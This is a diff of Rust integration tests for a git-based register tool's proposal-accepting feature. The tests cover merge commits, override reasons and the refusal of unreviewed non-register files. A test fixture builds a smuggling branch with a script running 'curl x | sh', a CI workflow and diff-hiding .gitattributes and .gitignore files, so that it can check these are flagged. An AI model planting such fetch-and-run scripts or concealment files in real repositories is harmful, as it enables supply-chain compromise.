@@ -10,6 +10,7 @@
 //! the repository is exactly as before (HEAD, every ref, the index file's
 //! bytes, every working-tree file, and the files at the top of `.git`).
 
+mod common_tui;
 mod repo_state;
 
 use repo_state::Observed;
@@ -23,7 +24,7 @@ use git2::{
     Time, Tree, build::CheckoutBuilder,
 };
 use ripen::diff::{FieldChange, FieldValue, Status};
-use ripen::git::proposals::{self, AcceptError, Accepted, Proposal};
+use ripen::git::proposals::{self, AcceptError, AcceptOptions, Accepted, Proposal};
 use ripen::model::{Date, Policy, Settings, Stage, UseCase, canonical};
 use ripen::register::Severity;
 use serde_json::{Value, json};
@@ -266,7 +267,23 @@ impl Fixture {
     }
 
     fn accept(&self, branch: &str, tip: Oid) -> Result<Accepted, AcceptError> {
-        proposals::accept(&self.state, branch, tip, Some(as_of()), today())
+        proposals::accept(
+            &self.state,
+            branch,
+            tip,
+            &AcceptOptions::default(),
+            Some(as_of()),
+            today(),
+        )
+    }
+
+    fn accept_with(
+        &self,
+        branch: &str,
+        tip: Oid,
+        options: &AcceptOptions,
+    ) -> Result<Accepted, AcceptError> {
+        proposals::accept(&self.state, branch, tip, options, Some(as_of()), today())
     }
 
     fn read(&self, repo_rel: &str) -> Option<Vec<u8>> {
@@ -305,6 +322,13 @@ impl Fixture {
     }
 }
 
+fn allow_other() -> AcceptOptions {
+    AcceptOptions {
+        allow_other_files: true,
+        override_reason: None,
+    }
+}
+
 fn signature(who: Who, minute: i64) -> Signature<'static> {
     Signature::new(who.0, who.1, &Time::new(T0 + minute * 60, 0)).unwrap()
 }
@@ -325,7 +349,13 @@ fn refused(fx: &Fixture, branch: &str, tip: Oid) -> AcceptError {
         .expect_err("accepting should be refused");
     assert_eq!(fx.observe(), before, "a refusal changed the repository");
     // The preview refuses the same way.
-    let preview = proposals::preview(&fx.state, branch, Some(as_of()), today());
+    let preview = proposals::preview(
+        &fx.state,
+        branch,
+        &AcceptOptions::default(),
+        Some(as_of()),
+        today(),
+    );
     assert!(preview.is_err(), "preview accepted what accept refused");
     assert_eq!(fx.observe(), before, "a preview changed the repository");
     err
@@ -518,9 +548,10 @@ fn remote_tracking_branches_are_listed() {
     assert_eq!(list[1].commits, 1);
     assert!(list[1].valid && list[1].mergeable);
     // And it can be accepted by that name.
+    let Accepted::Merged { commit } = fx.accept("origin/team/invoices", tip).unwrap();
     assert_eq!(
-        fx.accept("origin/team/invoices", tip).unwrap(),
-        Accepted::FastForward { to: tip }
+        fx.repo.find_commit(commit).unwrap().parent_id(1).unwrap(),
+        tip
     );
     assert!(fx.list().is_empty());
 }
@@ -589,7 +620,7 @@ fn hostile_branch_content_is_listed_without_harm() {
 // -------------------------------------------------------------- accepting
 
 #[test]
-fn accepting_by_fast_forward() {
+fn accepting_a_branch_ahead_of_head_is_a_merge_commit_by_the_accepter() {
     let fx = Fixture::new();
     let old_head = fx.head();
     let tip = fx.claims_update();
@@ -608,8 +639,14 @@ fn accepting_by_fast_forward() {
     let listed = fx.list();
     assert_eq!(listed[0].tip, tip);
 
-    let preview = proposals::preview(&fx.state, BRANCH, Some(as_of()), today()).unwrap();
-    assert!(preview.fast_forward);
+    let preview = proposals::preview(
+        &fx.state,
+        BRANCH,
+        &AcceptOptions::default(),
+        Some(as_of()),
+        today(),
+    )
+    .unwrap();
     assert_eq!(preview.head, old_head);
     assert_eq!(preview.into, "refs/heads/main");
     assert_eq!(
@@ -621,9 +658,27 @@ fn accepting_by_fast_forward() {
         ]
     );
 
-    let done = fx.accept(BRANCH, listed[0].tip).unwrap();
-    assert_eq!(done, Accepted::FastForward { to: tip });
-    assert_eq!(fx.head(), tip);
+    // Never a fast-forward: git would move main to the branch's last
+    // commit, and nothing would record who accepted it.
+    let Accepted::Merged { commit } = fx.accept(BRANCH, listed[0].tip).unwrap();
+    assert_eq!(fx.head(), commit);
+    let merge = fx.repo.find_commit(commit).unwrap();
+    assert_eq!(merge.parent_ids().collect::<Vec<_>>(), vec![old_head, tip]);
+    assert_eq!(merge.tree_id(), fx.repo.find_commit(tip).unwrap().tree_id());
+    assert_eq!(merge.author().name(), Ok(NAME), "authored by the accepter");
+    assert_eq!(merge.author().email(), Ok(EMAIL));
+    let message = merge.message().unwrap();
+    assert!(
+        message.starts_with("Accept proposal team/claims-update: "),
+        "{message}"
+    );
+    for change in [
+        "claims-triage: stage Identify -> Collect",
+        "new-case added",
+        "invoices removed",
+    ] {
+        assert!(message.contains(change), "{change} missing: {message}");
+    }
     assert_eq!(
         fx.repo.head().unwrap().name().unwrap(),
         "refs/heads/main",
@@ -665,10 +720,7 @@ fn accepting_by_merge_commit() {
     assert!(listed[0].mergeable);
     assert_eq!(listed[0].base, seed);
 
-    let done = fx.accept(BRANCH, listed[0].tip).unwrap();
-    let Accepted::Merged { commit } = done else {
-        panic!("expected a merge, got {done:?}")
-    };
+    let Accepted::Merged { commit } = fx.accept(BRANCH, listed[0].tip).unwrap();
     assert_eq!(fx.head(), commit);
     let merge = fx.repo.find_commit(commit).unwrap();
     assert_eq!(merge.parent_ids().collect::<Vec<_>>(), vec![ours, tip]);
@@ -713,8 +765,16 @@ fn an_executable_bit_and_a_new_folder_are_written() {
     );
     // A non-register file under state/ still changes the state directory.
     fx.branch("tools", tip);
-    assert_eq!(branches(&fx.list()), vec!["tools"]);
-    fx.accept("tools", tip).unwrap();
+    let listed = fx.list();
+    assert_eq!(branches(&listed), vec!["tools"]);
+    assert_eq!(
+        listed[0].other_files[0].describe(),
+        "state/tools/check.sh (not a register file, executable)"
+    );
+    // Refused unless the user says the other files are reviewed.
+    let err = refused(&fx, "tools", tip);
+    assert!(matches!(err, AcceptError::OtherFiles { .. }), "{err}");
+    fx.accept_with("tools", tip, &allow_other()).unwrap();
     #[cfg(unix)]
     {
         use std::os::unix::fs::PermissionsExt;
@@ -834,12 +894,16 @@ fn refuses_a_proposal_that_changes_files_outside_the_state_directory() {
     let listed = fx.list();
     assert_eq!(branches(&listed), vec!["team/mixed"]);
     assert_eq!(listed[0].files_outside_state, 1);
+    assert_eq!(listed[0].other_files.len(), 1);
     let err = refused(&fx, "team/mixed", tip);
-    assert!(matches!(err, AcceptError::OutsideState { .. }), "{err}");
+    assert!(matches!(err, AcceptError::OtherFiles { .. }), "{err}");
     let msg = err.to_string();
-    assert!(msg.contains("changes files outside state"), "{msg}");
-    assert!(msg.contains("src/main.rs"), "{msg}");
-    assert!(msg.contains("accept it with git"), "{msg}");
+    assert!(msg.contains("not register files"), "{msg}");
+    assert!(
+        msg.contains("src/main.rs (outside the state directory)"),
+        "{msg}"
+    );
+    assert!(msg.contains("--allow-other-files"), "{msg}");
 }
 
 #[test]
@@ -907,7 +971,7 @@ fn refuses_other_unsafe_states() {
     assert!(
         matches!(
             err,
-            AcceptError::Invalid { .. } | AcceptError::Unsupported { .. }
+            AcceptError::Invalid { .. } | AcceptError::OtherFiles { .. }
         ),
         "{err}"
     );
@@ -931,8 +995,16 @@ fn a_link_elsewhere_under_state_is_refused_unwritten() {
     );
     fx.branch("team/link", link);
     let err = refused(&fx, "team/link", link);
+    assert!(matches!(err, AcceptError::OtherFiles { .. }), "{err}");
+    assert!(err.to_string().contains("symbolic link"), "{err}");
+    // Even with other files allowed, ripen writes only regular files.
+    let before = fx.observe();
+    let err = fx
+        .accept_with("team/link", link, &allow_other())
+        .unwrap_err();
     assert!(matches!(err, AcceptError::Unsupported { .. }), "{err}");
     assert!(err.to_string().contains("symbolic link"), "{err}");
+    assert_eq!(fx.observe(), before);
 }
 
 // ------------------------------------------------------------ the binary
@@ -990,6 +1062,8 @@ fn cli_json_shape() {
             "files_outside_state",
             "last_commit_time",
             "mergeable",
+            "other_files",
+            "overrides",
             "ref",
             "tip",
             "valid"
@@ -1089,7 +1163,7 @@ fn cli_text_and_accept() {
     assert_eq!(out.code, 0, "{}", out.stderr);
     assert!(
         out.stdout
-            .starts_with("Accepting would fast-forward main from "),
+            .starts_with("Accepting would merge team/claims-update ("),
         "{}",
         out.stdout
     );
@@ -1115,17 +1189,527 @@ fn cli_text_and_accept() {
         .checkout_head(Some(CheckoutBuilder::new().force()))
         .unwrap();
 
-    // With --yes: done.
-    let out = ripen(&fx.root, &["proposals", "accept", BRANCH, "--yes"]);
+    // --tip pins what was reviewed: refused when the branch moved.
+    let mut u = case("Claims triage");
+    u.stage = Stage::Retired;
+    let moved = fx.commit_on(tip, &[(CLAIMS, Some(&text(&u)))], "Retire", BOB, 30);
+    fx.branch(BRANCH, moved);
+    let before = fx.observe();
+    let out = ripen(
+        &fx.root,
+        &["proposals", "accept", BRANCH, "--tip", short, "--yes"],
+    );
+    assert_eq!(out.code, 2, "{}", out.stdout);
+    assert!(
+        out.stderr.contains("moved since it was listed"),
+        "{}",
+        out.stderr
+    );
+    assert_eq!(fx.observe(), before);
+    fx.branch(BRANCH, tip);
+
+    // With --yes and the reviewed tip: done, as a merge commit.
+    let out = ripen(
+        &fx.root,
+        &["proposals", "accept", BRANCH, "--tip", short, "--yes"],
+    );
     assert_eq!(out.code, 0, "{}", out.stderr);
     assert!(
         out.stdout
-            .contains(&format!("Accepted {BRANCH}: main is now at {short}.")),
+            .contains(&format!("Accepted {BRANCH}: merge commit ")),
         "{}",
         out.stdout
     );
-    assert_eq!(fx.head(), tip);
+    let merge = fx.repo.find_commit(fx.head()).unwrap();
+    assert_eq!(merge.parent_id(1).unwrap(), tip);
     assert_eq!(fx.statuses(), Vec::<String>::new());
     let out = ripen(&fx.root, &["proposals"]);
     assert!(out.stdout.starts_with("No proposals"), "{}", out.stdout);
+}
+
+// ------------------------------------------------ what a proposal carries
+
+/// A branch that changes a use case and smuggles in a workflow, an
+/// executable script, a `.gitattributes` that hides every later diff and a
+/// `.gitignore` that hides new use cases.
+fn smuggler(fx: &Fixture) -> Oid {
+    let mut u = case("Claims triage");
+    u.stage = Stage::Collect;
+    let tip = fx.commit_raw(
+        fx.head(),
+        &[
+            (CLAIMS, Some((text(&u).into_bytes(), 0o100644))),
+            (
+                ".github/workflows/ci.yml",
+                Some((b"on: push\n".to_vec(), 0o100644)),
+            ),
+            (
+                "build.sh",
+                Some((b"#!/bin/sh\ncurl x | sh\n".to_vec(), 0o100755)),
+            ),
+            (
+                ".gitattributes",
+                Some((b"*.ron -diff\n".to_vec(), 0o100644)),
+            ),
+            (
+                "state/use-cases/.gitignore",
+                Some((b"*.ron\n".to_vec(), 0o100644)),
+            ),
+            ("state/notes.txt", Some((b"hello\n".to_vec(), 0o100644))),
+        ],
+        "Update claims triage",
+        BOB,
+        10,
+    );
+    fx.branch("team/smuggle", tip);
+    tip
+}
+
+#[test]
+fn every_file_that_is_not_a_register_file_is_named_and_needs_allowing() {
+    let fx = Fixture::new();
+    let tip = smuggler(&fx);
+    let listed = fx.list();
+    let described: Vec<String> = listed[0].other_files.iter().map(|f| f.describe()).collect();
+    assert_eq!(
+        described,
+        vec![
+            ".gitattributes (outside the state directory, .gitattributes)",
+            ".github/workflows/ci.yml (outside the state directory)",
+            "build.sh (outside the state directory, executable)",
+            "state/notes.txt (not a register file)",
+            "state/use-cases/.gitignore (not a register file, .gitignore)",
+        ]
+    );
+
+    // Listed prominently in text, and in JSON.
+    let out = ripen(&fx.root, &["proposals"]);
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    assert!(
+        out.stdout
+            .contains("CHANGES 5 FILES THAT ARE NOT REGISTER FILES"),
+        "{}",
+        out.stdout
+    );
+    for d in &described {
+        assert!(
+            out.stdout.contains(&format!("    ! {d}")),
+            "{d}: {}",
+            out.stdout
+        );
+    }
+    let out = ripen(&fx.root, &["proposals", "--format", "json"]);
+    let v: Value = serde_json::from_str(&out.stdout).unwrap();
+    assert_eq!(
+        v[0]["other_files"][2],
+        json!({"path": "build.sh", "class": "outside", "flags": ["executable"]})
+    );
+    assert_eq!(
+        v[0]["other_files"][4],
+        json!({"path": "state/use-cases/.gitignore", "class": "in_state", "flags": ["gitignore"]})
+    );
+
+    // Accepting refuses, naming them, and changes nothing; so does the CLI.
+    let err = refused(&fx, "team/smuggle", tip);
+    assert!(matches!(err, AcceptError::OtherFiles { .. }), "{err}");
+    assert!(
+        err.to_string()
+            .contains("build.sh (outside the state directory, executable)")
+    );
+    let before = fx.observe();
+    let out = ripen(&fx.root, &["proposals", "accept", "team/smuggle", "--yes"]);
+    assert_eq!(out.code, 2, "{}", out.stdout);
+    assert!(out.stderr.contains("--allow-other-files"), "{}", out.stderr);
+    assert_eq!(fx.observe(), before);
+
+    // The preview names each file; with --allow-other-files it is accepted.
+    let out = ripen(
+        &fx.root,
+        &["proposals", "accept", "team/smuggle", "--allow-other-files"],
+    );
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    assert!(
+        out.stdout.contains("5 files are NOT REGISTER FILES"),
+        "{}",
+        out.stdout
+    );
+    for d in &described {
+        assert!(out.stdout.contains(d.as_str()), "{d}: {}", out.stdout);
+    }
+    let out = ripen(
+        &fx.root,
+        &[
+            "proposals",
+            "accept",
+            "team/smuggle",
+            "--allow-other-files",
+            "--yes",
+        ],
+    );
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    assert_eq!(fx.read("build.sh"), fx.blob_at(tip, "build.sh"));
+    assert_eq!(fx.read(".gitattributes"), fx.blob_at(tip, ".gitattributes"));
+    assert_eq!(fx.statuses(), Vec::<String>::new());
+}
+
+#[test]
+fn with_the_state_directory_at_the_root_other_files_are_still_named() {
+    use proposals::{FileClass, FileFlag, classify};
+    // `ripen init` may make the repository's root the state directory:
+    // nothing is "outside" it then, and yet only three kinds of file are
+    // register files.
+    for (path, class, flags) in [
+        ("use-cases/claims.ron", FileClass::Register, vec![]),
+        ("register.ron", FileClass::Register, vec![]),
+        ("policy.ron", FileClass::Register, vec![]),
+        (".github/workflows/ci.yml", FileClass::InState, vec![]),
+        (
+            "use-cases/.gitignore",
+            FileClass::InState,
+            vec![FileFlag::Gitignore],
+        ),
+        (
+            ".gitattributes",
+            FileClass::InState,
+            vec![FileFlag::Gitattributes],
+        ),
+        ("use-cases/sub/x.ron", FileClass::InState, vec![]),
+    ] {
+        let f = classify("", path, Some(git2::FileMode::Blob));
+        assert_eq!((f.class, f.flags), (class, flags), "{path}");
+    }
+    // An executable use-case file is not a register file.
+    let f = classify("", "use-cases/x.ron", Some(git2::FileMode::BlobExecutable));
+    assert_eq!(f.class, FileClass::InState);
+    assert_eq!(f.flags, vec![FileFlag::Executable]);
+    // A state directory's prefix is not the state directory.
+    let f = classify("state", "statements/x.ron", Some(git2::FileMode::Blob));
+    assert_eq!(f.class, FileClass::Outside);
+}
+
+#[test]
+fn a_move_into_fine_tune_that_is_not_ready_needs_an_override_reason() {
+    let fx = Fixture::new();
+    let mut u = case("Claims triage");
+    u.stage = Stage::FineTune;
+    let tip = fx.commit_on(
+        fx.head(),
+        &[(CLAIMS, Some(&text(&u)))],
+        "Fine-tune claims triage",
+        BOB,
+        10,
+    );
+    fx.branch("team/rush", tip);
+    let err = refused(&fx, "team/rush", tip);
+    let AcceptError::NeedsOverride { moves, .. } = &err else {
+        panic!("{err}")
+    };
+    assert_eq!(moves[0].id, "claims-triage");
+    assert!(err.to_string().contains("--override REASON"), "{err}");
+    assert!(err.to_string().contains("readiness is `"), "{err}");
+
+    let before = fx.observe();
+    let out = ripen(&fx.root, &["proposals", "accept", "team/rush", "--yes"]);
+    assert_eq!(out.code, 2, "{}", out.stdout);
+    assert!(out.stderr.contains("--override REASON"), "{}", out.stderr);
+    assert_eq!(fx.observe(), before);
+    // A blank reason is no reason.
+    let out = ripen(
+        &fx.root,
+        &[
+            "proposals",
+            "accept",
+            "team/rush",
+            "--override",
+            "  ",
+            "--yes",
+        ],
+    );
+    assert_eq!(out.code, 2, "{}", out.stdout);
+    assert_eq!(fx.observe(), before);
+
+    let out = ripen(
+        &fx.root,
+        &[
+            "proposals",
+            "accept",
+            "team/rush",
+            "--override",
+            "The board approved a pilot",
+            "--yes",
+        ],
+    );
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    let merge = fx.repo.find_commit(fx.head()).unwrap();
+    let message = merge.message().unwrap();
+    assert!(
+        message.contains(
+            "Readiness override: claims-triage moved to FineTune although readiness is `"
+        ),
+        "{message}"
+    );
+    assert!(
+        message.contains("Override reason: The board approved a pilot"),
+        "{message}"
+    );
+    assert_eq!(merge.author().name(), Ok(NAME));
+
+    // The quarterly report flags the move: made with an override.
+    let out = ripen(
+        &fx.root,
+        &["report", "--since", "HEAD^1", "--format", "json"],
+    );
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    let v: Value = serde_json::from_str(&out.stdout).unwrap();
+    let change = &v["stage_changes"][0];
+    assert_eq!(change["id"], json!("claims-triage"));
+    assert_eq!(change["to"], json!("FineTune"));
+    assert_eq!(change["override_recorded"], json!(true));
+    assert!(
+        change["unready"]
+            .as_str()
+            .unwrap()
+            .contains("readiness is `")
+    );
+    let out = ripen(&fx.root, &["report", "--since", "HEAD^1"]);
+    assert!(
+        out.stdout
+            .contains("**FLAGGED: made with a readiness override; without passing readiness"),
+        "{}",
+        out.stdout
+    );
+}
+
+#[test]
+fn a_broken_reference_is_skipped_with_a_warning() {
+    let fx = Fixture::new();
+    let tip = fx.claims_update();
+    let refs = fx.root.join(".git/refs/heads");
+    // A loose reference whose name git refuses, one pointing at a commit
+    // that does not exist, and one at a commit whose tree does not.
+    fs::write(refs.join("bad..name"), format!("{tip}\n")).unwrap();
+    fs::write(
+        refs.join("ghost"),
+        "1234567890123456789012345678901234567890\n",
+    )
+    .unwrap();
+    let raw = format!(
+        "tree 1111111111111111111111111111111111111111\nparent {}\nauthor B <b@x> 1700000000 +0000\ncommitter B <b@x> 1700000000 +0000\n\nNo tree\n",
+        fx.head()
+    );
+    let treeless = fx
+        .repo
+        .odb()
+        .unwrap()
+        .write(git2::ObjectType::Commit, raw.as_bytes())
+        .unwrap();
+    fs::write(refs.join("treeless"), format!("{treeless}\n")).unwrap();
+
+    let listing = proposals::scan(&fx.state, Some(as_of()), today()).unwrap();
+    assert_eq!(branches(&listing.proposals), vec![BRANCH]);
+    let skipped = listing.skipped.join("\n");
+    assert!(skipped.contains("ghost"), "{skipped}");
+    assert!(skipped.contains("treeless"), "{skipped}");
+
+    let out = ripen(&fx.root, &["proposals"]);
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    assert!(out.stdout.starts_with(BRANCH), "{}", out.stdout);
+    assert!(
+        out.stderr.contains("warning: skipped refs/heads/ghost"),
+        "{}",
+        out.stderr
+    );
+    assert!(out.stderr.contains("refs/heads/treeless"), "{}", out.stderr);
+}
+
+/// The UI's Proposals screen names the files that are not register files
+/// in the list and above the changes, and the accept confirmation names
+/// each one; confirming accepts exactly those.
+#[test]
+fn the_proposals_screen_and_its_confirmation_name_every_other_file() {
+    use ripen::tui::app::{Dialog, Effect, Screen};
+    let fx = Fixture::new();
+    let tip = smuggler(&fx);
+    let listed = fx.list();
+    let mut app = common_tui::app_with(common_tui::shipped(), 40);
+    common_tui::type_str(&mut app, "6");
+    assert_eq!(app.screen, Screen::Proposals);
+    app.proposals_loaded(Ok(listed));
+    let text = common_tui::screen_text(&common_tui::render(&app, 120, 40, true));
+    assert!(text.contains("⚠ 5 FILES NOT REGISTER FILES"), "{text}");
+    assert!(
+        text.contains("⚠ also changes build.sh (outside the state directory, executable)"),
+        "{text}"
+    );
+    assert!(
+        text.contains(
+            "⚠ also changes state/use-cases/.gitignore (not a register file, .gitignore)"
+        ),
+        "{text}"
+    );
+    common_tui::type_str(&mut app, "a");
+    let Some(Dialog::Accept { summary, .. }) = &app.dialog else {
+        panic!("no accept dialog")
+    };
+    for f in [
+        ".github/workflows/ci.yml",
+        ".gitattributes",
+        "build.sh",
+        "state/notes.txt",
+        "state/use-cases/.gitignore",
+    ] {
+        assert!(
+            summary
+                .iter()
+                .any(|l| l.starts_with("ALSO CHANGES ") && l.contains(f)),
+            "{f}: {summary:?}"
+        );
+    }
+    let effects = common_tui::type_str(&mut app, "y");
+    let Some(Effect::Accept {
+        tip: shown,
+        options,
+        ..
+    }) = effects.first()
+    else {
+        panic!("no accept effect")
+    };
+    assert_eq!(*shown, tip, "the tip the screen showed");
+    assert!(options.allow_other_files);
+}
+
+/// What the user staged for something else is neither committed with the
+/// proposal nor unstaged by accepting it.
+#[test]
+fn accepting_never_commits_what_the_user_staged_for_something_else() {
+    let fx = Fixture::new();
+    let tip = fx.claims_update();
+    fs::write(fx.root.join("NOTES.md"), "my own draft\n").unwrap();
+    let mut index = fx.repo.index().unwrap();
+    index.add_path(Path::new("NOTES.md")).unwrap();
+    index.write().unwrap();
+    let staged = fx.index_blob("NOTES.md").expect("staged");
+    let Accepted::Merged { commit } = fx.accept(BRANCH, tip).unwrap();
+    assert_eq!(fx.blob_at(commit, "NOTES.md"), None, "not committed");
+    assert_eq!(fx.index_blob("NOTES.md"), Some(staged), "still staged");
+    assert_eq!(fx.blob_at(commit, CLAIMS), fx.blob_at(tip, CLAIMS));
+}
+
+/// However many files a proposal carries, the confirmation's question stays
+/// on screen at 80x24.
+#[test]
+fn the_accept_question_stays_visible_with_many_other_files() {
+    use ripen::tui::app::Screen;
+    let fx = Fixture::new();
+    let mut u = case("Claims triage");
+    u.stage = Stage::Collect;
+    let owned: Vec<(String, Option<String>)> = (0..30)
+        .map(|k| (format!("docs/page-{k:02}.md"), Some(format!("page {k}\n"))))
+        .chain(std::iter::once((CLAIMS.to_owned(), Some(text(&u)))))
+        .collect();
+    let files: Vec<(&str, Option<&str>)> = owned
+        .iter()
+        .map(|(p, c)| (p.as_str(), c.as_deref()))
+        .collect();
+    let tip = fx.commit_on(fx.head(), &files, "Docs and a move", ALICE, 10);
+    fx.branch("team/docs", tip);
+    let mut app = common_tui::app_with(common_tui::shipped(), 24);
+    common_tui::type_str(&mut app, "6");
+    assert_eq!(app.screen, Screen::Proposals);
+    app.proposals_loaded(Ok(fx.list()));
+    common_tui::type_str(&mut app, "a");
+    let text = common_tui::screen_text(&common_tui::render(&app, 80, 24, true));
+    assert!(text.contains("y accept · n cancel"), "{text}");
+    assert!(text.contains("ALSO CHANGES docs/page-00.md"), "{text}");
+}
+
+/// An accept killed after writing some of its files (simulated: one file
+/// already holds the accepted content, another still HEAD's) is taken up
+/// by the next run; a file holding anything else is refused, by name.
+#[test]
+fn an_accept_killed_midway_is_taken_up_by_the_next_run() {
+    let fx = Fixture::new();
+    let seed = fx.head();
+    let mut u = case("Claims triage");
+    u.stage = Stage::Collect;
+    let mut inv = case("Invoice extraction");
+    inv.risk = ripen::model::Risk::High;
+    let tip = fx.commit_on(
+        seed,
+        &[(CLAIMS, Some(&text(&u))), (INVOICES, Some(&text(&inv)))],
+        "Two changes",
+        BOB,
+        10,
+    );
+    fx.branch(BRANCH, tip);
+    // Half written: claims-triage holds the accepted content.
+    fs::write(fx.root.join(CLAIMS), fx.blob_at(tip, CLAIMS).unwrap()).unwrap();
+    let Accepted::Merged { commit } = fx.accept(BRANCH, tip).unwrap();
+    assert_eq!(
+        fx.repo.find_commit(commit).unwrap().parent_id(1).unwrap(),
+        tip
+    );
+    for path in [CLAIMS, INVOICES] {
+        assert_eq!(fx.read(path), fx.blob_at(tip, path), "{path}");
+    }
+    assert_eq!(fx.statuses(), Vec::<String>::new());
+
+    // Anything else in a file to write is refused, by name.
+    let fx = Fixture::new();
+    let tip = fx.claims_update();
+    fs::write(fx.root.join(CLAIMS), "my own edit\n").unwrap();
+    let err = refused(&fx, BRANCH, tip);
+    assert!(matches!(err, AcceptError::Uncommitted { .. }), "{err}");
+    assert!(err.to_string().contains("claims-triage.ron"), "{err}");
+}
+
+/// The Review screen names the moves into FineTune that the report flags.
+#[test]
+fn the_review_screen_names_flagged_moves_into_fine_tune() {
+    use ripen::git::review::{self, CloseOptions};
+    use ripen::tui::app::{Load, Screen};
+    let fx = Fixture::new();
+    let mut u = case("Claims triage");
+    u.stage = Stage::FineTune;
+    let tip = fx.commit_on(fx.head(), &[(CLAIMS, Some(&text(&u)))], "Rush", BOB, 10);
+    fx.branch("team/rush", tip);
+    let options = AcceptOptions {
+        allow_other_files: false,
+        override_reason: Some("the board approved a pilot".to_owned()),
+    };
+    let before = fx.head();
+    fx.accept_with("team/rush", tip, &options).unwrap();
+    review::close(
+        &fx.state,
+        "2026-Q3",
+        CloseOptions {
+            rev: Some(before.to_string()),
+            tagger: Some(signature(ALICE, 5)),
+            today: Some(today()),
+            ..CloseOptions::default()
+        },
+    )
+    .unwrap();
+    let mut app = common_tui::app_with(common_tui::shipped(), 40);
+    common_tui::type_str(&mut app, "7");
+    assert_eq!(app.screen, Screen::Review);
+    app.review_tags_loaded(Ok(review::reviews(&fx.state, today()).unwrap().tags));
+    let Some(Load::Report(tag)) = app.pending_load() else {
+        panic!("no report to load")
+    };
+    let report = review::report(
+        &fx.state,
+        Some(&format!("refs/tags/{tag}")),
+        None,
+        Some(as_of()),
+        today(),
+    )
+    .unwrap()
+    .report;
+    app.report_loaded(tag, Ok(report));
+    let text = common_tui::screen_text(&common_tui::render(&app, 120, 40, true));
+    assert!(
+        text.contains("⚠ into FineTune with an override or unready: claims-triage"),
+        "{text}"
+    );
 }
